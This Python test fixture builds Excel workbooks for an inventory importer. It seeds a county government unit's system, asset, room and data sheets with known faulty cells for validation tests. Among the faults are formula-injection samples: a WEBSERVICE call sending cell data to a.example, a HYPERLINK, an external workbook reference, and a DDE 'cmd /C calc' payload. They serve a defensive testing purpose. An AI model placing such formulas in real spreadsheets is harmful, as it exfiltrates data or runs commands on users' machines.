"""Workbooks as units send them, with faults put at known cells."""

from __future__ import annotations

from dataclasses import dataclass
from datetime import date
from pathlib import Path
from typing import Any

import xlsxwriter

from inventory.importers.mapping import load_mapping

MAPPING = load_mapping()
UNIT = "茶陵县人力资源和社会保障局"
UNIT_ID = "unit:430224-0002"
ROOM = "茶陵县人力资源和社会保障局机房"

# A good row of each sheet, by title.
GOOD: dict[str, dict[str, Any]] = {
    "系统清单": {
        "系统编号": "",
        "系统名称": "就业补贴发放平台{n}",
        "所属单位": UNIT,
        "所在机房": ROOM,
        "所在云": "",
        "网络区域": "政务外网公用区",
        "等保级别": "二级",
        "等保备案号": "4302249900{n}",
        "是否涉密": "否",
        "是否含个人信息": "有",
        "用户数": "1.5万",
        "日均访问量": "2,600次",
        "最近使用日期": "2021年3月5日",
        "年运维费（元）": "￥1,200.00",
        "最长停机时间": "2小时",
        "服务地址": "",
        "等保测评日期": 20210305,
        "可用性": "99.9%",
        "RTO": "4小时",
        "架构": "x86",
        "合同到期日": date(2027, 12, 31),
        "状态": "在用",
    },
    "资产清单": {
        "资产编号": "",
        "资产名称": "服务器-{n}",
        "资产类别": "服务器",
        "所在机房": ROOM,
        "所属单位": UNIT,
        "账面净值": "12,000元",
        "购置日期": "2021.3.5",
        "CPU核数": "１６核",
        "内存": "64G",
        "硬盘": "2T",
        "状态": "在用",
    },
    "机房清单": {
        "机房名称": "二号机房{n}",
        "所属单位": UNIT,
        "面积": "46㎡",
        "机柜": "4个",
        "供电容量": "12千瓦",
        "PUE": "1.8",
        "机房等级": "C级",
        "产权": "自建",
    },
    "数据资源": {
        "资源名称": "就业补贴信息{n}",
        "提供单位": UNIT,
        "来源系统": "",
        "共享类型": "有条件共享",
        "是否开放": "否",
        "更新周期": "7天",
        "最近更新日期": "2021-3-5",
        "数据量": "3.2万条",
    },
}


@dataclass(frozen=True)
class Fault:
    """`value` in the place of the good one, in a row of its own, is a problem of `code` there. `=` begins a formula with the computed value `result`."""

    sheet: str
    title: str
    value: Any
    code: str
    result: Any = 0
    good: bool = False  # a warning: the row is taken


S, A, R, D = GOOD
FAULTS = (
    Fault(S, "系统编号", "system:430224-9999", "id-unknown"),
    Fault(S, "系统编号", "第七号", "id-unknown"),
    Fault(S, "系统名称", "", "required"),
    Fault(S, "系统名称", "坏\x01名", "characters"),
    Fault(S, "系统名称", "乱码\ufffd系统", "characters"),
    Fault(S, "系统名称", "茶陵县\u202e统系", "characters"),
    Fault(S, "系统名称", "\u200b", "required"),
    Fault(S, "系统名称", "茶陵县就业信息登记平台", "renamed"),
    Fault(S, "所属单位", "茶陵县人社局", "reference-unknown"),
    Fault(S, "所属单位", "火星移民局", "reference-unknown"),
    Fault(S, "所在机房", "三楼机房", "reference-unknown"),
    Fault(S, "所在云", "月球云", "reference-unknown"),
    Fault(S, "所在云", "省政务云", "INV-014"),  # in a room and in a cloud
    Fault(S, "网络区域", "内网", "choice"),
    Fault(S, "网络区域", "", "required"),
    Fault(S, "网络区域", "/", "required"),
    Fault(S, "等保级别", "六级", "choice"),
    Fault(S, "等保级别", 2.5, "choice"),
    Fault(S, "等保备案号", 430224990012600155.0, "digits"),
    Fault(S, "等保备案号", "4.30225E+17", "digits"),
    Fault(S, "是否涉密", "可能", "yes-no"),
    Fault(S, "是否含个人信息", 3, "yes-no"),
    Fault(S, "用户数", "很多", "number"),
    Fault(S, "用户数", -5, "value"),
    Fault(S, "用户数", 12.5, "whole-number"),
    Fault(S, "用户数", 1e300, "number-range"),
    Fault(S, "用户数", "9" * 30, "number-range"),
    Fault(S, "用户数", "12台", "unit"),
    Fault(S, "用户数", date(2021, 3, 5), "number"),
    Fault(S, "用户数", True, "number"),
    Fault(S, "日均访问量", '=WEBSERVICE("http://a.example/"&A2)', "formula-calls-out", 5),
    Fault(S, "日均访问量", "='[other.xlsx]Sheet1'!A1", "formula-calls-out", 5),
    Fault(S, "日均访问量", '=HYPERLINK("http://a.example/","9")', "formula-calls-out", 5),
    Fault(S, "日均访问量", "=cmd|' /C calc'!A0", "formula-calls-out", 5),
    Fault(S, "日均访问量", "=1/0", "cell-error", "#DIV/0!"),
    Fault(S, "最近使用日期", "2021-2-30", "date"),
    Fault(S, "最近使用日期", "2021年13月1日", "date"),
    Fault(S, "最近使用日期", "去年", "date"),
    Fault(S, "最近使用日期", "1021-03-05", "date-range"),
    Fault(S, "最近使用日期", "21.3.5", "date"),
    Fault(S, "最近使用日期", "2021", "date"),
    Fault(S, "最近使用日期", 12, "date"),
    Fault(S, "最近使用日期", "=A1", "cell-error", "#REF!"),
    Fault(S, "最近使用日期", "2021年3月", "last_used-assumed", good=True),
    Fault(S, "年运维费（元）", "1,20", "unit"),
    Fault(S, "年运维费（元）", "3美元", "unit"),
    Fault(S, "年运维费（元）", "-1", "value"),
    Fault(S, "最长停机时间", "0", "value"),
    Fault(S, "最长停机时间", "两小时", "number"),
    Fault(S, "服务地址", "10.0.0.1", "address"),
    Fault(S, "服务地址", "2001:db8::zz", "address"),
    Fault(S, "等保测评日期", 20211305, "date"),
    Fault(S, "可用性", "101%", "value"),
    Fault(S, "可用性", 0.999, "availability_percent-assumed", good=True),
    Fault(S, "RTO", "4朝", "unit"),
    Fault(S, "架构", "MIPS", "choice"),
    Fault(S, "合同到期日", "长期", "date"),
    Fault(S, "状态", "还行", "choice"),
    Fault(A, "资产类别", "飞机", "choice"),
    Fault(A, "账面净值", "约三万", "number"),
    Fault(A, "购置日期", "", "required"),
    Fault(A, "购置日期", "无", "required"),
    Fault(A, "CPU核数", "16.5核", "whole-number"),
    Fault(A, "内存", "64斤", "unit"),
    Fault(A, "内存", "1.5G", "whole-number"),
    Fault(A, "硬盘", "500.5M", "disk_gib-assumed", good=True),
    Fault(A, "硬盘", "=NA()", "cell-error", "#N/A"),
    Fault(R, "面积", "四十六", "number"),
    Fault(R, "PUE", "0.9", "value"),
    Fault(R, "机房等级", "D级", "choice"),
    Fault(D, "来源系统", "不存在的系统甲乙丙", "reference-unknown"),
    Fault(D, "共享类型", "看情况", "choice"),
    Fault(D, "更新周期", "7光年", "unit"),
    Fault(D, "数据量", "∞", "number"),
)


def with_faults(file: Path, faults: tuple[Fault, ...] = FAULTS) -> dict[Fault, str]:
    """Write one workbook with every fault in a row of its own between good rows; returns the cell of each, `sheet!F12`."""
    cells: dict[Fault, str] = {}
    with xlsxwriter.Workbook(file) as book:
        day = book.add_format({"num_format": "yyyy-mm-dd"})
        for name, good in GOOD.items():
            sheet = book.add_worksheet(name)
            sheet.write_row(0, 0, good)
            rows: list[Fault | None] = [None, *(fault for fault in faults if fault.sheet == name), None]
            for number, fault in enumerate(rows, 1):
                for place, (title, value) in enumerate(good.items()):
                    if fault and fault.title == title:
                        cells[fault] = f"{name}!{xlsxwriter.utility.xl_rowcol_to_cell(number, place)}"
                        put(sheet, number, place, fault.value, day, fault.result)
                    else:
                        put(sheet, number, place, value.format(n=number) if isinstance(value, str) else value, day)
    return cells


def put(sheet: Any, row: int, column: int, value: Any, day: Any, result: Any = 0) -> None:
    if isinstance(value, str) and value.startswith("="):
        sheet.write_formula(row, column, value, None, result)
    elif isinstance(value, str):
        if value:
            sheet.write_string(row, column, value)
    elif isinstance(value, date):
        sheet.write_datetime(row, column, value, day)
    elif isinstance(value, bool):
        sheet.write_boolean(row, column, value)
    else:
        sheet.write_number(row, column, value)


def simple(file: Path, sheets: dict[str, list[list[Any]]]) -> Path:
    """A workbook of plain cells."""
    with xlsxwriter.Workbook(file) as book:
        day = book.add_format({"num_format": "yyyy-mm-dd"})
        for name, rows in sheets.items():
            sheet = book.add_worksheet(name)
            for number, row in enumerate(rows):
                for place, value in enumerate(row):
                    put(sheet, number, place, value, day)
    return file


def row(sheet: str, **other: Any) -> list[Any]:
    """A good row of a sheet with some cells changed."""
    return [other.get(title, value.format(n=1) if isinstance(value, str) else value) for title, value in GOOD[sheet].items()]
